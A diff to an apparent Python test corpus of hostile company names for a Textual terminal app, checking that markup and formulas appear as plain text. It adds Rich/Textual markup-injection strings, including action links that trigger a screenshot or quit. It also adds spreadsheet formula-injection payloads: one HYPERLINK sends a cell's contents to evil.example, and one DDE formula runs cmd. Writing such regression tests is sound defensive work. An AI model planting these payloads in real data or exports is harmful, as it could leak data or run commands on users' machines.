@@ -14,6 +14,13 @@ RTL = "\u202eКопыта"
 ZERO_WIDTH = "Ро\u200bмашка\ufeff"
 CYRILLIC = "ООО «Ёлка и ёжик»"
 LONG = "Щ" * 10_000
+# Names that once acted (see docs/security.md, "Hostile text"): a lone closing tag ended a closer's session
+# when their deal moved; an action link became a button running Textual's `screenshot`; spreadsheet formulas.
+CLOSE_TAG = "ООО «Рога [/] и копыта»"
+CLICK = "[@click=app.screenshot('kbase-pwn.svg','/tmp')]Нажми[/]"
+CLICK_QUIT = "[@click=app.quit]Выход[/]"
+FORMULA_LINK = '+1+HYPERLINK("http://evil.example/?"&A1,"Счёт")'
+FORMULA_CMD = "-2+3+cmd|' /C calc'!A0"
 
 CORPUS: list[tuple[str, str, str]] = [
     ("rich markup", MARKUP, "[bold red]Рога[/]"),
@@ -25,7 +32,16 @@ CORPUS: list[tuple[str, str, str]] = [
     ("zero-width", ZERO_WIDTH, "Ромашка"),
     ("cyrillic", CYRILLIC, "ООО «Ёлка и ёжик»"),
     ("10,000 characters", LONG, "ЩЩЩЩЩЩЩЩЩЩ"),
+    ("lone closing tag", CLOSE_TAG, "Рога [/] и"),
+    ("action link", CLICK, "[@click=app.screenshot("),
+    ("quit link", CLICK_QUIT, CLICK_QUIT),
+    ("formula link", FORMULA_LINK, '+1+HYPERLINK("http'),
+    ("formula command", FORMULA_CMD, FORMULA_CMD),
 ]
+
+# A name that carries the ones that acted, for the walk over every screen (tests/ui/test_hostile_walk.py).
+ACTING_NAME = "[/] " + CLICK + " " + CLICK_QUIT + " [/bold]"
+ACTING_VISIBLE = "[/] [@click=app.screenshot("
 
 # One company name carrying the short ones (names are at most 300 characters), the
 # visible form starting with the markup so that even a narrow column shows it.
